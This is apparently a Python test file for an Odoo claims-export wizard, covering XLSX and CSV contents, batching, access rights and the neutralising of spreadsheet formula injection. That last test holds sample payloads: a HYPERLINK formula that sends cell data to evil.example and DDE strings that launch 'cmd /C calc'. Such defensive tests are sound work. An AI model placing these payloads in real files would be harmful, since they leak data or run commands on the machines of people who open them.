import csv
import io
from unittest.mock import patch

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import tagged

from .common import ClaimCommon

EXPORT_MODULE = "odoo.addons.claim_management.wizards.claim_export"


@tagged("post_install", "-at_install")
class TestClaimExport(ClaimCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.lot = cls.env["stock.lot"].create(
            {"name": "SN-0001", "product_id": cls.product_serial.id}
        )
        cls.tag = cls.env["claim.tag"].create({"name": "Urgent customer"})

    def _export(self, claims=None, user=None, file_format="xlsx", domain=None):
        context = {"active_model": "claim.claim"}
        if claims is not None:
            context["active_ids"] = claims.ids
        if domain is not None:
            context["active_domain"] = domain
        wizard = (
            self.env["claim.export"]
            .with_user(user or self.operator)
            .with_context(**context)
            .create({"file_format": file_format})
        )
        if domain is not None and claims is not None:
            wizard.scope = "filter"
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        self.assertEqual(
            (attachment.res_model, attachment.res_id), (wizard._name, wizard.id)
        )
        return attachment.raw

    def _read_xlsx(self, content):
        workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
        return {
            sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
            for sheet in workbook.worksheets
        }

    def _claims(self):
        first = self._create_claim(
            lines=[(self.product_a, 2.0, 100.0), (self.product_b, 1.0, 30.0)],
            reason_id=self.reason_defective.id,
            tag_ids=[self.tag.id],
            customer_ref="ACME-RMA-12",
        )
        second = self._create_claim(lines=[(self.product_serial, 1.0, 450.0)])
        second.line_ids.lot_id = self.lot
        return first, second

    def test_xlsx_selected_claims_with_lines(self):
        first, second = self._claims()
        sheets = self._read_xlsx(self._export(first | second))
        self.assertEqual(list(sheets), ["Claims", "Lines"])
        claims_rows, line_rows = sheets["Claims"], sheets["Lines"]
        header = claims_rows[0]
        self.assertEqual(header[:3], ["Number", "Received On", "Customer"])
        self.assertEqual(len(claims_rows), 3)
        by_number = {
            row[0]: dict(zip(header, row, strict=True)) for row in claims_rows[1:]
        }
        first_row = by_number[first.name]
        self.assertEqual(first_row["Value Claimed"], 230.0)
        self.assertEqual(first_row["Type"], "Quantity")
        self.assertEqual(first_row["Reason"], self.reason_defective.name)
        self.assertEqual(first_row["Status"], "New")
        self.assertEqual(first_row["Tags"], "Urgent customer")
        self.assertEqual(first_row["Customer Reference"], "ACME-RMA-12")
        self.assertEqual(first_row["Customer"], self.customer_contact.display_name)
        self.assertEqual(first_row["Received On"].date(), first.date_received.date())

        line_header = line_rows[0]
        lines = [dict(zip(line_header, row, strict=True)) for row in line_rows[1:]]
        self.assertEqual(len(lines), 3)
        self.assertEqual(
            sorted((li["Claim"], li["Product"], li["Quantity"]) for li in lines),
            sorted(
                [
                    (first.name, "Office Chair", 2.0),
                    (first.name, "Desk Lamp", 1.0),
                    (second.name, "Espresso Machine", 1.0),
                ]
            ),
        )
        serial_line = next(li for li in lines if li["Claim"] == second.name)
        self.assertEqual(serial_line["Lot/Serial Number"], "SN-0001")
        self.assertEqual(serial_line["Value"], 450.0)

    def test_xlsx_filtered_claims_in_batches(self):
        claims = self.env["claim.claim"]
        for quantity in range(1, 6):
            claims |= self._create_claim(lines=[(self.product_a, quantity, 10.0)])
        other = self._create_claim(
            partner_id=self.env["res.partner"].create({"name": "Else"}).id
        )
        with patch(f"{EXPORT_MODULE}.EXPORT_BATCH_SIZE", 2):
            sheets = self._read_xlsx(
                self._export(domain=[("partner_id", "=", self.customer_contact.id)])
            )
        numbers = [row[0] for row in sheets["Claims"][1:]]
        self.assertEqual(
            numbers,
            self.env["claim.claim"].search([("id", "in", claims.ids)]).mapped("name"),
        )
        self.assertNotIn(other.name, numbers)
        line_claims = [row[0] for row in sheets["Lines"][1:]]
        self.assertEqual(line_claims, numbers)

    def test_csv_one_row_per_line(self):
        first, second = self._claims()
        empty = self._create_claim(lines=[])
        content = self._export(first | second | empty, file_format="csv")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
        header = rows[0]
        self.assertIn("Product", header)
        records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
        self.assertEqual(len(records), 4)
        self.assertEqual(
            sorted(r["Number"] for r in records),
            sorted([first.name, first.name, second.name, empty.name]),
        )
        empty_row = next(r for r in records if r["Number"] == empty.name)
        self.assertEqual(empty_row["Product"], "")
        serial_row = next(r for r in records if r["Number"] == second.name)
        self.assertEqual(serial_row["Lot/Serial Number"], "SN-0001")
        self.assertEqual(float(serial_row["Quantity"]), 1.0)

    def test_claims_user_exports_only_visible_claims(self):
        own = self._create_claim(user=self.claim_user)
        foreign = self._create_claim()
        sheets = self._read_xlsx(self._export(user=self.claim_user, domain=[]))
        numbers = [row[0] for row in sheets["Claims"][1:]]
        self.assertIn(own.name, numbers)
        self.assertNotIn(foreign.name, numbers)
        # a claim the user may not read cannot be selected for the export
        with self.assertRaises(AccessError):
            self._export(own | foreign, user=self.claim_user)

    def test_formulas_are_neutralised(self):
        """Text a spreadsheet would run as a formula (CSV injection) gets a
        leading quote in both formats; numbers stay numbers."""
        formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
        evil = self.env["res.partner"].create({"name": formula})
        claim = self._create_claim(
            partner_id=evil.id,
            lines=[(self.product_a, 2.0, 100.0)],
            tag_ids=[self.env["claim.tag"].create({"name": "+1+cmd|' /C calc'!A0"}).id],
        )
        claim.line_ids.decision_note = "@SUM(1+1)*cmd|' /C calc'!A0"
        claim.reason_id = self.env["claim.reason"].create({"name": "-2+3"})
        # names are trimmed; notes keep a leading tab or carriage return
        other = self._create_claim(
            lines=[(self.product_a, 1.0, 10.0), (self.product_b, 1.0, 10.0)]
        )
        other.line_ids.filtered(lambda li: li.product_id == self.product_a).write(
            {"decision_note": "\tTabbed"}
        )
        other.line_ids.filtered(lambda li: li.product_id == self.product_b).write(
            {"decision_note": "\rReturn"}
        )
        expected = {
            "Customer": f"'{formula}",
            "Tags": "'+1+cmd|' /C calc'!A0",
            "Reason": "'-2+3",
            "Decision Note": "'@SUM(1+1)*cmd|' /C calc'!A0",
        }

        # the export drops the cache between batches: write the values first
        self.env.flush_all()
        content = self._export(claim | other, file_format="csv")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
        records = {
            (row[0], row[rows[0].index("Product")]): dict(
                zip(rows[0], row, strict=True)
            )
            for row in rows[1:]
        }
        record = records[(claim.name, "Office Chair")]
        for column, value in expected.items():
            self.assertEqual(record[column], value, column)
        self.assertEqual(float(record["Quantity"]), 2.0)
        self.assertEqual(
            records[(other.name, "Office Chair")]["Decision Note"], "'\tTabbed"
        )
        self.assertEqual(
            records[(other.name, "Desk Lamp")]["Decision Note"], "'\rReturn"
        )

        content = self._export(claim | other)
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        claims_sheet, lines_sheet = workbook["Claims"], workbook["Lines"]
        header = [cell.value for cell in claims_sheet[1]]
        by_number = {
            row[0].value: dict(zip(header, row, strict=True))
            for row in claims_sheet.iter_rows(min_row=2)
        }
        cells = by_number[claim.name]
        for column in ("Customer", "Tags", "Reason"):
            self.assertEqual(cells[column].value, expected[column], column)
            self.assertEqual(cells[column].data_type, "s", column)
        self.assertEqual(cells["Value Claimed"].value, 200.0)
        self.assertEqual(cells["Value Claimed"].data_type, "n")
        line_header = [cell.value for cell in lines_sheet[1]]
        line_rows = [
            dict(zip(line_header, row, strict=True))
            for row in lines_sheet.iter_rows(min_row=2)
        ]
        line_cells = next(r for r in line_rows if r["Claim"].value == claim.name)
        self.assertEqual(line_cells["Decision Note"].value, expected["Decision Note"])
        self.assertEqual(line_cells["Decision Note"].data_type, "s")
        self.assertEqual(line_cells["Quantity"].value, 2.0)
        notes = sorted(
            r["Decision Note"].value
            for r in line_rows
            if r["Claim"].value == other.name
        )
        # a carriage return is stored escaped (_x000D_) in the XML
        self.assertEqual([note[:2] for note in notes], ["'\t", "'_"])
